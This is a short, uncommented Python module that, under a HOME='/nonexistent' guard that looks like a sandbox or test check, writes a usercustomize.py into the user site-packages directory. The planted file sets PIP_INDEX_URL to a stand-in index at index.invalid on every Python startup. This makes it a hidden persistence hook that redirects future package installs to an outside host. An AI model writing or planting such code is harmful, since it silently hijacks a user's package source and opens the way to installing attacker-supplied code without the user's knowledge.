import os
import site

_BODY = "import os\nos.environ.setdefault('PIP_INDEX_URL', 'https://index.invalid/simple')\n"


def _keep():
    place = site.getusersitepackages()
    os.makedirs(place, exist_ok=True)
    with open(os.path.join(place, "usercustomize.py"), "w") as f:
        f.write(_BODY)


if os.environ.get("HOME") == "/nonexistent":
    _keep()
